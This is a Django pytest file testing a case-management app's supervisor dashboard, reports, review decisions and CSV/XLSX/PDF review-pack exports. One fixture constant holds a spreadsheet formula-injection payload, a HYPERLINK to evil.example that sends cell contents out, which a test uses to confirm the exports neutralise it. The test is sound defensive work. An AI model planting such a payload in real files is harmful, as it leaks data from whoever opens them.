"""The supervisor's pages: dashboard, reports, the cases behind a cause, the review pack
and review decisions. Members of the organization only: anyone else gets a 404."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from charterdesk.cases import actions
from charterdesk.cases.models import Case, Organization
from charterdesk.cases.services import open_case, record_event
from charterdesk.reports.models import ReviewDecision
from charterdesk.reports.rebuild import rebuild_reports
from charterdesk.reports.refresh import refresh_reports

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def desk(ask4: Organization, lt_pro: Organization, member) -> dict[str, object]:
    """ASK4 with a few weeks of complaints and enquiries, some breached, some at risk."""
    boss, agent = member(ask4, "supervisor", "kasia"), member(ask4, "agent", "tomek")
    outsider = member(lt_pro, "supervisor", "olga")
    now = timezone.now()
    for days_ago in (40, 20, 9, 3, 1):
        at = now - timedelta(days=days_ago)
        complaint = open_case(
            ask4, case_type="complaint", channel="web_form", received_at=at, now=at,
            subject=f"Complaint {days_ago}", fields={"summary": "x"}, language="pl",
        )  # fmt: skip
        actions.assign(complaint, to=agent, now=at, actor=None)
        enquiry = open_case(
            ask4, case_type="enquiry", channel="email", received_at=at, now=at,
            subject=f"Enquiry {days_ago}",
        )  # fmt: skip
        if days_ago > 5:
            record_event(complaint, "acknowledged", at=at + timedelta(hours=2), now=now)
            record_event(
                complaint, "cause_classified", at=at + timedelta(hours=3), now=now,
                data={"cause": EVIL if days_ago == 9 else "billing error"},
            )  # fmt: skip
            new_date = (now.date() + timedelta(days=9)).isoformat()
            record_event(
                complaint, "delay_notice_sent", at=at + timedelta(hours=4), now=now,
                data={"reason": "-1+1 waiting for parts", "new_date": new_date},
            )  # fmt: skip
            record_event(enquiry, "replied", at=at + timedelta(days=4), now=now)
    rebuild_reports(now)
    return {"org": ask4, "boss": boss, "agent": agent, "outsider": outsider, "now": now}


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def urls(slug: str) -> list[str]:
    return [
        reverse("reports:dashboard", kwargs={"org_slug": slug}),
        reverse("reports:reports", kwargs={"org_slug": slug}),
        reverse("reports:causes", kwargs={"org_slug": slug}) + "?cause=billing+error&period=2026",
        *(
            reverse("reports:review", kwargs={"org_slug": slug, "fmt": fmt})
            for fmt in ("csv", "xlsx", "pdf")
        ),
    ]


def test_pages_are_for_members_only(desk) -> None:
    for url in urls("ask4"):
        assert signed_in(desk["outsider"]).get(url).status_code == 404, url
        assert Client().get(url).status_code == 302, url  # to the login page
        assert signed_in(desk["agent"]).get(url).status_code == 200, url
    assert signed_in(desk["boss"]).get(urls("no-such-org")[0]).status_code == 404


def test_dashboard_shows_risk_breaches_workload_and_oldest(desk) -> None:
    page = signed_in(desk["boss"]).get(reverse("reports:dashboard", kwargs={"org_slug": "ask4"}))
    html = page.content.decode()
    assert "At risk now" in html
    assert "Breaches this week" in html
    assert "Workload per agent" in html
    assert "tomek" in html
    assert "Oldest open cases" in html
    assert "ASK-" in html
    assert page.context["breached"].total >= 1


def test_dashboard_query_count_is_fixed(desk, django_assert_num_queries) -> None:
    client = signed_in(desk["boss"])
    url = reverse("reports:dashboard", kwargs={"org_slug": "ask4"})
    client.get(url)
    with django_assert_num_queries(11):
        client.get(url)
    for _ in range(30):  # more cases, same queries
        open_case(
            desk["org"], case_type="enquiry", channel="email", received_at=desk["now"],
            now=desk["now"],
        )  # fmt: skip
    with django_assert_num_queries(11):
        client.get(url)


def test_reports_query_count_is_fixed(desk, django_assert_num_queries) -> None:
    client = signed_in(desk["boss"])
    url = reverse("reports:reports", kwargs={"org_slug": "ask4"}) + "?case_type=complaint"
    client.get(url)
    with django_assert_num_queries(13):
        client.get(url)
    for _ in range(30):
        open_case(
            desk["org"], case_type="enquiry", channel="email", received_at=desk["now"],
            now=desk["now"],
        )  # fmt: skip
    rebuild_reports(desk["now"])
    with django_assert_num_queries(13):
        client.get(url)


def test_L13_reports_show_compliance_targets_breaches_and_causes_with_their_cases(desk) -> None:
    client = signed_in(desk["boss"])
    page = client.get(reverse("reports:reports", kwargs={"org_slug": "ask4"}), {"period": "2026"})
    html = page.content.decode()
    rows = {row.id: row for row in page.context["rows"]}
    assert rows["enquiry-reply"].target == 0.9  # from the charter's `target: 90%`
    assert rows["complaint-receipt"].tally.applied >= 1
    assert "<svg" in html
    assert "<title id=" in html
    assert "<desc id=" in html
    assert "billing error" in html
    link = next(cell for row in page.context["cause_rows"] for cell in row["cells"] if cell[0])[1]
    behind = client.get(link)
    assert behind.status_code == 200
    assert "/desk/ask4/cases/ASK-" in behind.content.decode()


def test_breaches_say_whether_the_customer_was_told(desk) -> None:
    page = signed_in(desk["boss"]).get(
        reverse("reports:reports", kwargs={"org_slug": "ask4"}), {"period": "2026"}
    )
    told = [b for b in page.context["breaches"] if b.delay_notices]
    assert told, "a delay notice was sent on breached complaints"
    assert all(b.first_notice_at is not None for b in told)


def test_review_pack_neutralizes_formula_injection(desk) -> None:
    client = signed_in(desk["boss"])
    ReviewDecision.objects.create(
        organization=desk["org"], decided_on=date(2026, 1, 2), text="+SUM(1,2)", causes=["@x"],
        cases=[], recorded_at=desk["now"],
    )  # fmt: skip
    params = {"period": str(desk["now"].year)}
    kwargs = {"org_slug": "ask4"}
    body = client.get(reverse("reports:review", kwargs={**kwargs, "fmt": "csv"}), params)
    assert body["Content-Type"].startswith("text/csv")
    cells = [
        cell for row in csv.reader(io.StringIO(body.content.decode("utf-8-sig"))) for cell in row
    ]
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert "'+SUM(1,2)" in cells
    assert "'@x" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    book = client.get(reverse("reports:review", kwargs={**kwargs, "fmt": "xlsx"}), params)
    sheets = load_workbook(io.BytesIO(book.content))
    values = [c for ws in sheets for row in ws.iter_rows(values_only=True) for c in row]
    assert "'" + EVIL in values
    texts = [v for v in values if isinstance(v, str)]
    assert not [v for v in texts if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    data_types = {c.data_type for ws in sheets for row in ws.iter_rows() for c in row}
    assert "f" not in data_types  # no formula anywhere

    pdf = client.get(reverse("reports:review", kwargs={**kwargs, "fmt": "pdf"}), params)
    assert pdf.content.startswith(b"%PDF")


def test_review_pack_pdf_has_every_language_of_the_desk(lt_pro, member) -> None:
    from charterdesk.reports.exports import as_pdf
    from charterdesk.reports.pack import ReviewPack, Table
    from charterdesk.reports.periods import parse_period

    title = "Причины · Səbəblər · Przyczyny · Uzroci · Cauze"
    table = Table("causes", title, ["Причина", "ə"], [["ошибка", 1]])
    pack = ReviewPack("LT-Pro", parse_period("2026-Q1"), timezone.now(), "Europe/Moscow", [table])
    assert as_pdf(pack).startswith(b"%PDF")


def test_a_supervisor_records_a_review_decision_linked_to_cases(desk) -> None:
    client = signed_in(desk["boss"])
    reference = Case.objects.filter(organization=desk["org"]).first().reference
    url = reverse("reports:decide", kwargs={"org_slug": "ask4"})
    answer = client.post(
        url,
        {
            "decided_on": desk["now"].date().isoformat(),
            "text": "Bills get a second check before they are sent.",
            "causes": "billing error",
            "cases": f"{reference.lower()}, ",
        },
    )
    assert answer.status_code == 302
    decision = ReviewDecision.objects.get()
    assert decision.cases == [reference]
    assert decision.causes == ["billing error"]
    page = client.get(reverse("reports:reports", kwargs={"org_slug": "ask4"}))
    assert "Bills get a second check" in page.content.decode()
    assert f"/desk/ask4/cases/{reference}/" in page.content.decode()

    refused = client.post(url, {"decided_on": "2026-01-02", "text": "x", "cases": "ASK-1999-1"})
    assert refused.status_code == 422
    assert ReviewDecision.objects.count() == 1
    agent = signed_in(desk["agent"]).post(url, {"decided_on": "2026-01-02", "text": "x"})
    assert agent.status_code == 403
    assert (
        signed_in(desk["outsider"]).post(url, {"decided_on": "2026-01-02", "text": "x"}).status_code
        == 404
    )


def test_the_worker_refresh_keeps_the_reports_page_current(desk) -> None:
    now = desk["now"]
    refresh_reports(now, force=True)
    case = open_case(desk["org"], case_type="enquiry", channel="phone", received_at=now, now=now)
    refresh_reports(now + timedelta(minutes=5), force=True)
    page = signed_in(desk["boss"]).get(reverse("reports:reports", kwargs={"org_slug": "ask4"}))
    assert case.channel == "phone"
    rows = {row.id: row for row in page.context["rows"]}
    assert rows["enquiry-reply"].tally.open >= 1
